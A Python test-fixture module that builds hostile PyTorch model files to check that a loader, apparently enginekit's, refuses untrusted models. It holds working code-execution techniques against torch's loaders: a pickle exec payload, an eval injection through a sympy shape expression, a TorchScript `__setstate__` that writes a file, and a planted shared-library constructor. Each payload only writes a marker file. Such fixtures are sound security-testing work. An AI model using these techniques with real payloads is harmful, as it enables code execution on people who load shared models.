"""Hostile model files: each one, when loaded by torch, writes ``marker`` (a file that must never appear).

They are real attacks on torch 2.13's loaders, each checked live by a test that loads it the trusting way:
* ``pickle_pt2``: a torch.export program whose example inputs are a pickle with a ``__reduce__`` payload;
  torch.export.load retries them with ``torch.load(weights_only=False)``;
* ``sympy_pt2``: a torch.export program whose symbolic shape expression is Python code; torch parses it with
  ``sympy.sympify`` (eval), even when every pickle is loaded weights-only;
* ``torchscript_payload``: a TorchScript archive whose ``__setstate__`` (run by torch.jit.load) creates a file
  with ``torch.from_file(path, shared=True)``;
* ``aoti_payload``: an AOTInductor package (and an enginekit manifest beside it) whose shared library has a
  constructor (run by dlopen).
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import torch


class _Payload:
    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (f"open({self.marker!r}, 'w').write('pwned')",))


class _Linear(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = torch.nn.Linear(4, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x)


def _program(path: Path, dynamic: bool) -> None:
    """A genuine torch.export program of a Linear(4, 2) (x: [2, 4], or [batch, 4])."""
    shapes = ({0: torch.export.Dim("batch")},) if dynamic else None
    program = torch.export.export(_Linear().eval(), (torch.randn(2, 4),), dynamic_shapes=shapes)
    torch.export.save(program, str(path))


def _rewrite(src: Path, dst: Path, replace: dict[str, bytes]) -> None:
    """Copy the records of a PT2 archive into ``dst`` (torch's own writer), some of them replaced."""
    zf = zipfile.ZipFile(src)
    writer = torch._C.PyTorchFileWriter(str(dst))
    for info in zf.infolist():
        name = info.filename.split("/", 1)[1]
        if name in (".data/version", ".data/serialization_id", "byteorder"):  # the writer adds its own
            continue
        data = replace.get(name, zf.read(info.filename))
        writer.write_record(name, data, len(data))
    writer.write_end_of_file()


def pickle_pt2(dst: Path, marker: Path) -> Path:
    genuine = dst.with_name("genuine_static.pt2")
    _program(genuine, dynamic=False)
    buf = io.BytesIO()
    torch.save(((_Payload(marker),), {}), buf)
    _rewrite(genuine, dst, {"data/sample_inputs/model.pt": buf.getvalue()})
    return dst


def sympy_pt2(dst: Path, marker: Path) -> Path:
    genuine = dst.with_name("genuine_dynamic.pt2")
    _program(genuine, dynamic=True)
    zf = zipfile.ZipFile(genuine)
    root = zf.namelist()[0].split("/")[0]
    text = zf.read(f"{root}/models/model.json").decode()
    symbol = "Symbol('s77', positive=True, integer=True)"
    old = f'"expr_str": "{symbol}"'
    assert old in text, "torch changed how it writes symbolic dims"
    new = f'"expr_str": "(open(\'{marker}\', \'w\').write(\'pwned\'), {symbol})[1]"'
    _rewrite(genuine, dst, {"models/model.json": text.replace(old, new, 1).encode()})
    return dst


class _WritesOnLoad(torch.nn.Module):
    def __init__(self, marker: str) -> None:
        super().__init__()
        self.w = torch.ones(4)
        self.path = marker

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + self.w

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, str, bool]:
        return (self.w, self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, str, bool]) -> None:
        self.w, self.path, self.training = state[0], state[1], state[2]
        t = torch.from_file(self.path, shared=True, size=16, dtype=torch.uint8)  # creates the file
        t.fill_(65)
        self.w = self.w + t[:4].float() * 0


def torchscript_payload(dst: Path, marker: Path) -> Path:
    torch.jit.save(torch.jit.script(_WritesOnLoad(str(marker))), str(dst))
    return dst


def aoti_payload(dst: Path, marker: Path) -> Path:
    """A minimal AOTInductor package; its library's constructor writes ``marker`` (needs a C compiler)."""
    compiler = shutil.which("cc") or shutil.which("gcc")
    if compiler is None:
        raise RuntimeError("no C compiler")
    c_file = dst.with_name("planted.c")
    c_file.write_text(
        "#include <stdio.h>\n"
        "__attribute__((constructor)) static void planted(void) {\n"
        f'    FILE *f = fopen("{marker}", "w");\n'
        '    if (f) { fputs("pwned", f); fclose(f); }\n'
        "}\n"
    )
    library = dst.with_name("planted.so")
    subprocess.run([compiler, "-shared", "-fPIC", "-o", str(library), str(c_file)], check=True, timeout=120)
    records = {
        "archive_format": b"pt2",
        "archive_version": b"0",
        "data/aotinductor/model/model.so": library.read_bytes(),
        "data/aotinductor/model/model_metadata.json": b'{"AOTI_DEVICE_KEY": "cpu"}',
    }
    writer = torch._C.PyTorchFileWriter(str(dst))
    for name, data in records.items():
        writer.write_record(name, data, len(data))
    writer.write_end_of_file()
    spec = {"name": "x", "shape": [2, 4], "dtype": "float32"}
    manifest = {"format": "enginekit-aoti", "format_version": 1, "torch": torch.__version__, "device": "cpu",
                "precision": "fp32", "inputs": [spec], "outputs": [{**spec, "name": "output", "shape": [2, 2]}],
                "example_shapes": {"x": [2, 4]}, "dynamic_dims": {}, "source": {"kind": "factory"}}
    dst.with_name(dst.name + ".json").write_text(json.dumps(manifest))  # as enginekit writes beside a package
    return dst
